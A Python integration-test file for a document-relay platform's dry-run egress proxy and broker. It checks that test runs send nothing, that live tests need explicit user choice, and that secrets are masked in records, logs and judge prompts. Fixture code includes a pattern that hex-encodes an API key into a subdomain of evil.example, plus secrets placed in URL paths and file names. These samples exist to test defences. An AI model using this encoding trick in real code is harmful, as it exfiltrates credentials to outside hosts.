"""The agent's test runs are dry (docs/runner.md "Dry runs"): code that POSTs through the broker
(a connected account, through the Pipedream stand-in) and through the egress proxy (plain HTTP)
sends nothing to the downstream sink in the thread's automatic test, and the verdict, the
judge's evidence and the run's records say what was simulated; a LiveTest turn, the user's
explicit choice, sends for real. Direct HTTPS in a dry test stops at the first connection with
a "needs a live test" verdict that Approve respects.

The real API server, the local node, the operator and the gateway (broker + egress proxy) as
subprocesses with their RBAC; the LLM, platform and Pipedream stand-ins and the sink in this
process.
"""

from __future__ import annotations

import json
import ssl
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from kubernetes import client

from devkit.standins.llm import Reply
from devkit.standins.pipedream import PipedreamStandin
from devkit.standins.server import serving
from docrelay.gateway.egress import RECORD_COLLECTED, RECORD_STATE_LABEL
from docrelay.models import GROUP, VERSION
from tests.cluster.harness import (
    SINK_NAME,
    Sink,
    condition,
    custom,
    docrelay,
    eventually,
    get_integration,
    get_run,
    set_secret,
    sink_by_name,
    sink_egress,
    wait_finished,
)
from tests.cluster.test_agent import (  # noqa: F401  (stack: a fixture)
    Stack,
    agent_integration,
    agent_status,
    assert_prompts_clean,
    fenced,
    get_revision,
    stack,
)
from tests.cluster.test_chat import PLURAL, agent_turns, get_thread, say
from tests.cluster.test_console import console
from tests.cluster.test_egress import Handler as EgressHandler
from tests.cluster.test_egress import Server as EgressServer
from tests.cluster.test_egress import self_signed
from tests.leakcheck import assert_clean, canary

pytestmark = pytest.mark.cluster

EXTERNAL_USER = "finance-team"

BOTH_WAYS = """
import json
import urllib.request

from docrelay.sdk import api_request, get_document

SINK = {sink!r}
LEDGER = {ledger!r}


def lambda_handler(event, context):
    number = get_document(event["document_identifier"])["data"]["invoiceNumber"]
    answer = api_request("ledger", LEDGER + "/ledger", "POST", body={{"invoiceNumber": number}})
    request = urllib.request.Request(
        SINK + "/bills",
        data=json.dumps({{"invoiceNumber": number}}).encode(),
        headers={{"Content-Type": "application/json"}},
        method="POST",
    )
    with urllib.request.urlopen(request, timeout=10) as reply:
        reply.read()
    dry = answer.get("dry_run", False)
    return {{"summary": f"dry_run={{event['dry_run']}} broker_dry={{dry}}"}}
"""

HTTPS_CODE = """
import urllib.request


def lambda_handler(event, context):
    request = urllib.request.Request("https://erp.example/bills", data=b"{}", method="POST")
    with urllib.request.urlopen(request, timeout=10) as reply:
        reply.read()
    return {"summary": "posted"}
"""


@pytest.fixture
def ledger(api: client.ApiClient, stack: Stack) -> Iterator[PipedreamStandin]:  # noqa: F811
    """The Pipedream Connect stand-in, the tenant's credentials for it and a ConnectedAccount
    `ledger`, whose proxy calls land on the sink."""
    pd = PipedreamStandin(client_secret="pd-client-secret-for-dry-runs")
    with serving(pd.app) as connect:
        client.CoreV1Api(api).create_namespaced_secret(
            stack.ns,
            {
                "metadata": {"name": "docrelay-pipedream"},
                "stringData": {
                    "client_id": pd.client_id,
                    "client_secret": pd.client_secret,
                    "project_id": pd.project_id,
                    "environment": "development",
                    "url": connect.base_url,
                },
            },
        )
        account = pd.add_account(EXTERNAL_USER, "ledger_app", environment="development")
        custom(api).create_namespaced_custom_object(
            GROUP, VERSION, stack.ns, "connectedaccounts",
            {
                "apiVersion": f"{GROUP}/{VERSION}",
                "kind": "ConnectedAccount",
                "metadata": {"name": "ledger"},
                "spec": {"app": "ledger_app", "accountId": account.id,
                         "externalUserId": EXTERNAL_USER, "environment": "development"},
            },
        )  # fmt: skip
        yield pd


def build_thread(api: client.ApiClient, ns: str, integration: str, **spec: Any) -> str:
    """An Integration written by a Build thread, and the thread (no turns yet)."""
    thread = f"{integration}-build"
    body = {
        "apiVersion": f"{GROUP}/{VERSION}",
        "kind": "Integration",
        "metadata": {
            "name": integration,
            "annotations": {"agent.docrelay.io/conversation": thread},
        },
        "spec": {
            "workspace": "mEFayXdO",
            "documentType": "tVpGRBWd",
            "trigger": "DocumentParseCompleted",
            "instructions": f"Written in the conversation {thread}.",
            **spec,
        },
    }
    custom(api).create_namespaced_custom_object(GROUP, VERSION, ns, "integrations", body)
    custom(api).create_namespaced_custom_object(
        GROUP, VERSION, ns, PLURAL,
        {
            "apiVersion": f"{GROUP}/{VERSION}",
            "kind": "IntegrationConversation",
            "metadata": {"name": thread},
            "spec": {"integration": integration, "purpose": "Build", "turns": []},
        },
    )  # fmt: skip
    return thread


def record(api: client.ApiClient, ns: str, name: str) -> list[dict[str, Any]]:
    """The entries of a run attempt's record ConfigMap (every gateway process's part), once
    the gateway has written it (it gathers entries for half a second after a connection)."""

    def entries() -> list[dict[str, Any]]:
        try:
            data = client.CoreV1Api(api).read_namespaced_config_map(name, ns).data or {}
        except client.ApiException as exc:
            if exc.status == 404:
                return []
            raise
        return [e for value in data.values() for e in json.loads(value)["entries"]]

    return eventually(entries, bool, f"the record {name}")


def test_a_dry_test_sends_nothing_and_says_what_it_simulated_while_a_live_one_sends(
    api: client.ApiClient,
    stack: Stack,  # noqa: F811
    ledger: PipedreamStandin,
) -> None:
    ns, llm = stack.ns, stack.llm
    code = BOTH_WAYS.format(sink=sink_by_name(stack.sink), ledger=stack.sink)
    llm.script(
        Reply(fenced(code, "This posts each invoice's number to the ledger and the bills API.")),
        Reply.judgement(True, "each run POSTed to /ledger and /bills (simulated: dry run)"),
        Reply.judgement(True, "each run POSTed to /ledger and /bills"),
    )
    thread = build_thread(
        api, ns, "both", connectedAccounts=["ledger"], egress=sink_egress(stack.sink)
    )
    Sink.seen.clear()

    answered = say(
        api, ns, thread,
        text="Post each invoice's number to the ledger account and to our bills API.",
    )  # fmt: skip
    revision_turn, verdict_turn = agent_turns(answered)
    assert verdict_turn["kind"] == "TestVerdict", verdict_turn
    verdict = verdict_turn["verdict"]
    assert verdict["verdict"] == "Pass" and verdict["dryRun"] is True, verdict
    # Nothing reached the sink, neither through the broker nor through the proxy.
    assert Sink.seen == []
    assert ledger.recorded("/proxy/") == []
    runs = verdict["testRuns"]
    assert runs and answered["status"]["testRuns"] == runs
    assert answered["status"]["liveTest"] is False
    for name in runs:
        run = get_run(api, ns, name)
        assert run["spec"]["dryRun"] is True and run["spec"]["test"] is True
        assert run["status"]["phase"] == "Succeeded", run["status"]
        assert run["status"]["resultSummary"] == "dry_run=True broker_dry=True"
        # The records say what was not sent.
        (bill,) = record(api, ns, f"{name}-1-egress")
        assert (bill["method"], bill["path"], bill["bytesOut"]) == ("POST", "/bills", 0)
        assert bill["reason"] == "dry run: simulated, not sent"
        (action,) = record(api, ns, f"{name}-1-broker")
        assert (action["action"], action["method"], action["path"]) == (
            "api_request", "POST", "/ledger",
        )  # fmt: skip
        assert action["outcome"] == "simulated" and action["dryRun"] is True
    # The judge saw both, marked as simulated.
    judged = llm.requests[-1].prompt
    assert "(dry: writes simulated, not sent)" in judged
    assert "api_request POST 127.0.0.1/ledger as account ledger -> simulated, not sent" in judged
    assert "/bills -> 200 (dry run: simulated, not sent)" in judged

    # A live test is the user's explicit choice: it sends, through both ways.
    live = say(api, ns, thread, action="LiveTest")
    note, live_verdict = agent_turns(live)[-2:]
    assert note["kind"] == "Note" and "live" in note["text"]
    assert live_verdict["verdict"]["verdict"] == "Pass"
    assert live_verdict["verdict"]["dryRun"] is False
    assert live["status"]["liveTest"] is True
    live_runs = live_verdict["verdict"]["testRuns"]
    assert set(live_runs).isdisjoint(runs) and len(live_runs) == len(runs)
    for name in live_runs:
        assert get_run(api, ns, name)["spec"]["dryRun"] is False
        assert get_run(api, ns, name)["status"]["resultSummary"] == "dry_run=False broker_dry=False"
        (action,) = record(api, ns, f"{name}-1-broker")
        assert action["outcome"] == "sent" and action["status"] == 201
    paths = sorted(path for path, _, _ in Sink.seen)
    assert paths == sorted(["/bills", "/ledger"] * len(live_runs)), paths
    assert "(live)" in llm.requests[-1].prompt
    assert revision_turn["revision"] == live["status"]["revision"]


def test_direct_https_in_a_dry_test_needs_a_live_test_before_approve_deploys(
    api: client.ApiClient,
    stack: Stack,  # noqa: F811
) -> None:
    ns, llm = stack.ns, stack.llm
    llm.script(Reply(fenced(HTTPS_CODE, "This posts to the ERP over HTTPS.")))
    thread = build_thread(api, ns, "erp", egress={"hosts": ["erp.example"]})

    answered = say(api, ns, thread, text="Post each invoice to our ERP at erp.example.")
    revision_turn, verdict_turn = agent_turns(answered)
    revision = revision_turn["revision"]
    assert verdict_turn["verdict"]["verdict"] == "NeedsLiveTest", verdict_turn
    assert "erp.example:443" in verdict_turn["text"]
    assert "live test" in verdict_turn["text"]
    tested = condition(get_revision(api, ns, revision), "Tested")
    assert (tested["status"], tested["reason"]) == ("False", "NeedsLiveTest")
    name = verdict_turn["verdict"]["testRuns"][0]
    status = wait_finished(api, ns, name)  # the verdict came with the first stop
    assert status["errorClass"] == "EgressDenied"
    assert "dry run: erp.example:443 was not contacted" in status["errorMessage"]
    (tunnel,) = record(api, ns, f"{name}-1-egress")
    assert (tunnel["method"], tunnel["allowed"], tunnel["status"]) == ("CONNECT", False, 403)
    # The model was not asked to judge: nothing could be seen.
    assert len(llm.requests) == 1

    refused = say(api, ns, thread, action="Approve")
    assert "needs a live test" in agent_turns(refused)[-1]["text"]
    assert not (get_integration(api, ns, "erp").get("status") or {}).get("deployedRevision")


def test_a_generation_whose_dry_test_stops_at_https_is_tested_live_when_the_user_says_so(
    api: client.ApiClient,
    stack: Stack,  # noqa: F811
) -> None:
    """The one-shot flow: a generated revision that posts over HTTPS cannot be tested dry; its
    generation says so (TestFailed, Tested NeedsLiveTest, not judged) and how to test it live;
    `docrelay chat --live-test --revision` then runs it for real (the proxy connects)."""
    ns, llm = stack.ns, stack.llm
    llm.script(Reply(fenced(HTTPS_CODE, "This posts to the ERP over HTTPS.")))
    agent_integration(
        api, ns, "erp1", instructions="POST each invoice to our ERP at erp.example.",
        egress={"hosts": ["erp.example"]},
    )  # fmt: skip
    task = agent_status(api, ns, "erp1", "generation", {"TestPassed", "TestFailed"})
    assert task["state"] == "TestFailed", task
    revision = task["revision"]
    assert "could not be tested dry" in task["message"] and "erp.example:443" in task["message"]
    assert f"docrelay chat erp1 --change --live-test --revision {revision}" in task["message"]
    tested = condition(get_revision(api, ns, revision), "Tested")
    assert (tested["status"], tested["reason"]) == ("False", "NeedsLiveTest")
    assert len(llm.requests) == 1  # nothing to judge: nothing could be seen

    live = docrelay(
        "chat", "erp1", "--change", "--live-test", "--revision", revision, "-n", ns,
        "--wait", "150", expect=None,
    )  # fmt: skip
    assert live.returncode == 0, live.stdout + live.stderr
    assert "a live test sends what the code sends, for real" in live.stderr
    thread = get_thread(api, ns, "erp1-change")
    assert thread["status"]["liveTest"] is True and thread["status"]["revision"] == revision
    verdict = agent_turns(thread)[-1]["verdict"]
    assert verdict["dryRun"] is False and verdict["verdict"] == "Fail"  # erp.example: no DNS
    for name in verdict["testRuns"]:
        assert get_run(api, ns, name)["spec"]["dryRun"] is False
        status = wait_finished(api, ns, name)
        assert "dry run" not in (status.get("errorMessage") or "")
        (tunnel,) = record(api, ns, f"{name}-1-egress")
        # Live: the proxy let it through and tried to reach erp.example (not resolvable here:
        # 502, or 504 when the resolver does not answer in time).
        assert (tunnel["method"], tunnel["host"]) == ("CONNECT", "erp.example")
        assert tunnel["status"] in (502, 504), tunnel
        assert "dry run" not in tunnel.get("reason", "")


NAMED_AFTER_A_SECRET = """
import os
import time
from urllib.parse import quote

from docrelay.sdk import api_request, upload_file

LEDGER = {ledger!r}


def lambda_handler(event, context):
    key = os.environ["API_KEY"]
    api_request("ledger", LEDGER + "/v1/" + quote(key) + "/bills", "POST", body={{}})
    upload_file("ledger", b"%PDF-1.7", "bill-" + quote(key, safe="") + ".pdf", "application/pdf")
    time.sleep(1.5)  # recorded by the gateway while the run is still going
    return {{"summary": "posted and uploaded"}}
"""


def test_a_secret_in_a_broker_path_or_file_name_reaches_neither_the_record_nor_the_judge(
    api: client.ApiClient,
    stack: Stack,  # noqa: F811
    ledger: PipedreamStandin,
) -> None:
    """Code that puts a secret value into the URL path of an api_request and into the name of
    an uploaded file (names the broker records for the run, in `<job>-broker`): once the
    operator has collected the attempt, the record keeps both with the value masked, and
    neither `docrelay logs`, the console's run page, the components' logs nor the judge's
    prompt holds the value. (An action the gateway writes only after the collection is
    recorded without those names: tests/unit/test_dry_runs.py.)"""
    ns, llm = stack.ns, stack.llm
    value = canary()
    set_secret(api, ns, "named", "API_KEY", value)
    code = NAMED_AFTER_A_SECRET.format(ledger=stack.sink)
    llm.script(
        Reply(fenced(code, "This posts each bill to the ledger and uploads its PDF.")),
        Reply.judgement(True, "each run posted the bill and uploaded its PDF (simulated)"),
    )
    thread = build_thread(api, ns, "named", connectedAccounts=["ledger"], secrets=["API_KEY"])
    answered = say(api, ns, thread, text="Post each bill to the ledger and upload its PDF.")
    _, verdict_turn = agent_turns(answered)
    runs = verdict_turn["verdict"]["testRuns"]
    assert runs and verdict_turn["verdict"]["verdict"] == "Pass", verdict_turn
    for name in runs:
        assert wait_finished(api, ns, name)["phase"] == "Succeeded"
        got = record(api, ns, f"{name}-1-broker")
        assert [(e["action"], e.get("path") or e.get("fileName")) for e in got] == [
            ("api_request", "/v1/***/bills"),
            ("upload_file", "bill-***.pdf"),
        ], got  # the code named the value; the operator masked it
        stored = client.CoreV1Api(api).read_namespaced_config_map(f"{name}-1-broker", ns)
        assert stored.metadata.labels[RECORD_STATE_LABEL] == RECORD_COLLECTED
        assert_clean(json.dumps(stored.data), [value], "the broker record")
        # What `docrelay logs` says of the record: a summary beside the log, the list with
        # --broker, the names as the operator masked them.
        logs = docrelay("logs", name, "-n", ns)
        assert_clean(logs.stdout + logs.stderr, [value], "docrelay logs")
        assert "broker: 2 action(s), 2 simulated (dry run)" in logs.stderr, logs.stderr
        listed = docrelay("logs", name, "-n", ns, "--broker").stdout
        assert "POST 127.0.0.1/v1/***/bills" in listed and "bill-***.pdf" in listed, listed
        assert_clean(listed, [value], "docrelay logs --broker")
        # The console's run page lists the same actions.
        page = console(ns).get(f"/runs/{name}").text
        assert "2 action(s), 2 simulated (dry run)" in page
        assert "POST 127.0.0.1/v1/***/bills" in page and "bill-***.pdf" in page, page
        assert_clean(page, [value], "the console's run page")
    # The judge read the masked record as its evidence.
    judged = llm.requests[-1].prompt
    assert "api_request POST 127.0.0.1/v1/***/bills as account ledger -> simulated" in judged
    assert "upload_file bill-***.pdf as account ledger -> simulated" in judged
    assert_prompts_clean(llm.requests, [value])
    assert_clean(stack.gateway.log_text(), [value], "the gateway's log")
    assert_clean(stack.tenant.log_text(), [value], "the operator's log")


HOST_AFTER_A_SECRET = """
import os
import urllib.request


def lambda_handler(event, context):
    label = os.environ["API_KEY"].encode().hex()  # a value in a host name, as hex
    refused = []
    for url in ("https://" + label + ".evil.example/bills", "http://" + label + ".evil.example/"):
        try:
            urllib.request.urlopen(url, timeout=10).read()
        except OSError:
            refused.append(url.split(":")[0])
    return {"summary": "refused: " + " ".join(refused)}
"""


def test_a_secret_in_a_refused_host_name_reaches_neither_the_record_nor_the_judge(
    api: client.ApiClient,
    stack: Stack,  # noqa: F811
) -> None:
    """Code that puts a secret value (as hex, which a host name can hold) into the host it
    asks the proxy for, over CONNECT and as a plain-HTTP URL: both refused, both recorded,
    and once the operator has collected the attempt the record names `***.evil.example`. The
    value is in none of: the record as stored and as `docrelay logs --egress` lists it, the
    judge's prompt, any Event or status in the namespace (the EgressDenied Events, written by
    the gateway, which knows no values, name such a host not at all), the components' logs."""
    ns, llm = stack.ns, stack.llm
    value = canary(header=True)  # 31 characters: 62 hex digits, one DNS label (at most 63)
    set_secret(api, ns, "hosted", "API_KEY", value)
    llm.script(
        Reply(fenced(HOST_AFTER_A_SECRET, "This tries the bills host.")),
        Reply.judgement(True, "each run was refused both connections"),
    )
    thread = build_thread(
        api, ns, "hosted", secrets=["API_KEY"], egress={"hosts": ["listed.example"]}
    )
    answered = say(api, ns, thread, text="Try the bills host; a refusal is fine.")
    _, verdict_turn = agent_turns(answered)
    runs = verdict_turn["verdict"]["testRuns"]
    assert runs and verdict_turn["verdict"]["verdict"] == "Pass", verdict_turn
    for name in runs:
        status = wait_finished(api, ns, name)
        assert status["resultSummary"] == "refused: https http", status
        stored = client.CoreV1Api(api).read_namespaced_config_map(f"{name}-1-egress", ns)
        assert stored.metadata.labels[RECORD_STATE_LABEL] == RECORD_COLLECTED
        got = sorted(record(api, ns, f"{name}-1-egress"), key=lambda e: e["port"])
        assert [(e["method"], e["host"], e["port"], e["status"]) for e in got] == [
            ("GET", "***.evil.example", 80, 403),
            ("CONNECT", "***.evil.example", 443, 403),
        ], got  # the code named the value; the operator masked it, in the reasons too
        assert got[1]["reason"].startswith("***.evil.example:443 is not allowed;"), got
        assert_clean(json.dumps(stored.data), [value], "the egress record")
        listed = docrelay("logs", name, "-n", ns, "--egress").stdout
        assert "***.evil.example:443" in listed and "***.evil.example:80" in listed, listed
        assert_clean(listed, [value], "docrelay logs --egress")
        logs = docrelay("logs", name, "-n", ns)
        assert_clean(logs.stdout + logs.stderr, [value], "docrelay logs")
    # The judge read the masked record as its evidence.
    judged = llm.requests[-1].prompt
    assert "CONNECT ***.evil.example:443 -> 403 (refused: ***.evil.example:443" in judged
    assert_prompts_clean(llm.requests, [value])
    # kubectl describe: the Events say a destination was refused without naming it.
    core = client.CoreV1Api(api)
    refusals = [e.message for e in core.list_namespaced_event(ns).items
                if e.reason == "EgressDenied"]  # fmt: skip
    assert refusals and all("[a host named by the code]:" in m for m in refusals), refusals
    events = "\n".join(f"{e.reason}: {e.message}" for e in core.list_namespaced_event(ns).items)
    assert_clean(events, [value], "the namespace's Events")
    for plural in ("integrationruns", "integrationrevisions", "integrations", PLURAL):
        found = custom(api).list_namespaced_custom_object(GROUP, VERSION, ns, plural)["items"]
        statuses = json.dumps([item.get("status") for item in found])
        assert_clean(statuses, [value], f"the status of the {plural}")
    assert_clean(json.dumps(get_thread(api, ns, thread)), [value], "the conversation")
    assert_clean(stack.gateway.log_text(), [value], "the gateway's log")
    assert_clean(stack.tenant.log_text(), [value], "the operator's log")


SAFE_AND_NOT = """
import ssl
import urllib.request

CA = {ca!r}


def call(url, data=None):
    context = ssl.create_default_context(cadata=CA)
    request = urllib.request.Request(url, data=data, method="POST" if data else "GET")
    with urllib.request.urlopen(request, timeout=10, context=context) as reply:
        return reply.read()


def lambda_handler(event, context):
    call("{safe}/rates")
    {more}
    return {{"summary": "looked up the rate"}}
"""


@pytest.fixture
def https_hosts(tmp_path: Any) -> Iterator[tuple[int, int, str]]:
    """Two HTTPS servers on loopback, both sink.test (the gateway resolves it to 127.0.0.1),
    with a certificate the code trusts: (port, port, CA)."""
    cert, key, pem = self_signed([SINK_NAME], tmp_path)
    servers = []
    for _ in range(2):
        server = EgressServer(("127.0.0.1", 0), EgressHandler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(cert, key)
        server.socket = context.wrap_socket(server.socket, server_side=True)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
    EgressHandler.seen.clear()
    yield servers[0].server_address[1], servers[1].server_address[1], pem
    for server in servers:
        server.shutdown()


def test_a_dry_test_reaches_over_https_only_the_host_the_user_marked_safe(
    api: client.ApiClient,
    stack: Stack,  # noqa: F811
    https_hosts: tuple[int, int, str],
) -> None:
    """spec.egress.dryRunSafeHosts: a dry test's HTTPS connection to the host the user marked
    safe is made for real (the server sees it) and recorded as sent live; one to a listed host
    not marked safe still stops the run with NeedsLiveTest. Code that calls only the marked
    host is tested dry to the end and judged, the judge told what was sent live."""
    ns, llm = stack.ns, stack.llm
    safe_port, other_port, ca = https_hosts
    safe, other = f"https://{SINK_NAME}:{safe_port}", f"https://{SINK_NAME}:{other_port}"
    both = SAFE_AND_NOT.format(ca=ca, safe=safe, more=f'call("{other}/bills", b"{{}}")')
    only_safe = SAFE_AND_NOT.format(ca=ca, safe=safe, more="")
    llm.script(
        Reply(fenced(both, "This looks up the rate, then posts the bill.")),
        Reply(fenced(only_safe, "This only looks up the rate.")),
        Reply.judgement(True, "each run read /rates from the rates API, live (marked safe)"),
    )
    egress = {
        "hosts": [f"{SINK_NAME}:{safe_port}", f"{SINK_NAME}:{other_port}"],
        "cidrs": ["127.0.0.1/32"],
        "dryRunSafeHosts": [f"{SINK_NAME}:{safe_port}"],
    }
    thread = build_thread(api, ns, "rates", egress=egress)

    answered = say(api, ns, thread, text="Look up the rate, then post the bill.")
    verdict_turn = agent_turns(answered)[-1]
    assert verdict_turn["verdict"]["verdict"] == "NeedsLiveTest", verdict_turn
    assert verdict_turn["verdict"]["reasons"] == [
        f"a dry test stopped at a direct HTTPS connection to {SINK_NAME}:{other_port}"
    ]
    (name,) = verdict_turn["verdict"]["testRuns"][:1]
    status = wait_finished(api, ns, name)
    assert status["errorClass"] == "EgressDenied"
    assert f"dry run: {SINK_NAME}:{other_port} was not contacted" in status["errorMessage"]
    sent, stopped = record(api, ns, f"{name}-1-egress")[:2]
    assert (sent["method"], sent["port"], sent["allowed"], sent["status"]) == (
        "CONNECT", safe_port, True, 200,
    )  # fmt: skip
    assert sent["reason"] == "dry run: sent live (marked safe)" and sent["bytesOut"] > 0
    assert (stopped["port"], stopped["allowed"], stopped["status"]) == (other_port, False, 403)
    # The marked host was really called; the other one never.
    assert ("GET", "/rates") in {(m, p) for _, m, p, _ in EgressHandler.seen}
    assert not any(p == "/bills" for _, _, p, _ in EgressHandler.seen)
    assert len(llm.requests) == 1  # nothing to judge: the run stopped

    answered = say(api, ns, thread, text="Only look up the rate; do not post anything.")
    verdict_turn = agent_turns(answered)[-1]
    assert verdict_turn["verdict"]["verdict"] == "Pass", verdict_turn
    assert verdict_turn["verdict"]["dryRun"] is True
    for name in verdict_turn["verdict"]["testRuns"]:
        (entry,) = record(api, ns, f"{name}-1-egress")
        assert entry["reason"] == "dry run: sent live (marked safe)" and entry["allowed"]
    judged = llm.requests[-1]
    assert "was really made, over HTTPS" in judged.system
    line = f"CONNECT {SINK_NAME}:{safe_port} -> 200 (dry run: sent live (marked safe))"
    assert line in judged.prompt
